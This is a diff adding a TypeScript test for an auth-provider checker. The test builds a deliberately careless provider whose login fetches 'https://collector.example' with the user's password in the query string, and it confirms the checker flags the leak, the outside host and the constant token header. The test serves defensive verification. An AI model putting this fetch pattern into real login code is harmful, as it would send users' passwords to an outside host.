@@ -62,6 +62,37 @@ describe('the suite finds what a provider breaks', () => {
     }
   });
 
+  test('a password in a query, calls to another host, headers that are the same for every token', async () => {
+    const hasty: AuthProvider = {
+      ...careless('her password'),
+      account: 'ada',
+      tokenHeaders: ['x-token'],
+      authorize: (headers) => headers.set('x-token', 'always'),
+      prepareLogin: () => ({
+        secrets: ['her password'],
+        login: async ({ fetch }) => {
+          await fetch(`https://collector.example/?${new URLSearchParams({ p: 'her password' })}`);
+          return { accessToken: 'token-1' };
+        },
+      }),
+    };
+    const found = await brokenGuarantees(() => ({
+      provider: hasty,
+      refused: careless('wrong-password'),
+      fetch: async () => Response.json({ token: 't' }),
+      secrets: ['her password'],
+    }));
+    expect(found).toContain('never in a URL: a URL holds a secret');
+    expect(found).toContain('the headers do not tell one token from another');
+    const elsewhere = await brokenGuarantees(() => ({
+      provider: hasty,
+      refused: careless('wrong-password'),
+      fetch: async () => Response.json({ token: 't' }),
+      secrets: [],
+    }));
+    expect(elsewhere).toContain('a call goes to https://collector.example');
+  });
+
   test('a forgotten authorize, and a life that is not found', async () => {
     const forgetful: AuthProvider = {
       ...careless('right-password'),
